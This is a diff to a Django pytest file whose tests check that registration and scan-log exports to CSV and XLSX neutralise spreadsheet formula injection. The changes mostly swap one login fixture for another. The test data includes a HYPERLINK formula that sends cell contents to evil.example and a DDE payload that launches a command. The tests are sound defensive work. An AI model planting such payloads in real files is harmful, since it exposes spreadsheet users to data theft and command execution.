@@ -10,7 +10,6 @@ from openpyxl import load_workbook
 
 from registration.models import Question
 from tests.factories import RegistrationFactory
-from tests.helpers import make_event_organiser
 
 pytestmark = pytest.mark.django_db
 
@@ -18,18 +17,12 @@ INDEX = "wagtailsnippets_registration_registration:list"
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
 
-@pytest.fixture
-def team_client(client, event):
-    client.force_login(make_event_organiser(event))
-    return client
-
-
-def test_csv_export_neutralises_formulas_in_fields_and_answers(team_client, event):
+def test_csv_export_neutralises_formulas_in_fields_and_answers(organiser_client, event):
     question = Question.objects.create(event=event, label="Topics")
     registration = RegistrationFactory(event=event, organisation=HYPERLINK, position="-1+1", last_name="O'Neil")
     registration.answers.create(question=question, value="@SUM(A1)")
 
-    response = team_client.get(reverse(INDEX), {"export": "csv"})
+    response = organiser_client.get(reverse(INDEX), {"export": "csv"})
 
     [row] = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
     assert (row["Organisation"], row["Position"], row["Last name"], row["Topics"]) == (
@@ -40,20 +33,20 @@ def test_csv_export_neutralises_formulas_in_fields_and_answers(team_client, even
     )
 
 
-def test_csv_export_neutralises_a_formula_heading(team_client, event):
+def test_csv_export_neutralises_a_formula_heading(organiser_client, event):
     Question.objects.create(event=event, label="=1+1")
     RegistrationFactory(event=event)
 
-    response = team_client.get(reverse(INDEX), {"export": "csv"})
+    response = organiser_client.get(reverse(INDEX), {"export": "csv"})
 
     headings = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert headings[-1] == "'=1+1"
 
 
-def test_xlsx_export_neutralises_formulas(team_client, event):
+def test_xlsx_export_neutralises_formulas(organiser_client, event):
     RegistrationFactory(event=event, organisation=HYPERLINK)
 
-    response = team_client.get(reverse(INDEX), {"export": "xlsx"})
+    response = organiser_client.get(reverse(INDEX), {"export": "xlsx"})
 
     sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
     headings = [cell.value for cell in sheet[1]]
@@ -61,12 +54,12 @@ def test_xlsx_export_neutralises_formulas(team_client, event):
     assert (cell.value, cell.data_type) == (f"'{HYPERLINK}", "s")
 
 
-def test_scan_log_export_neutralises_formulas(team_client, event):
+def test_scan_log_export_neutralises_formulas(organiser_client, event):
     from registration.checkin.models import Scan
 
     Scan.objects.create(event=event, code="=cmd|' /C calc'!A0", result="invalid", scanned_at="2026-06-24T08:00:00Z")
 
-    response = team_client.get(reverse("scan_log:index"), {"export": "csv"})
+    response = organiser_client.get(reverse("scan_log:index"), {"export": "csv"})
 
     [row] = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
     assert row["Code"] == "'=cmd|' /C calc'!A0"
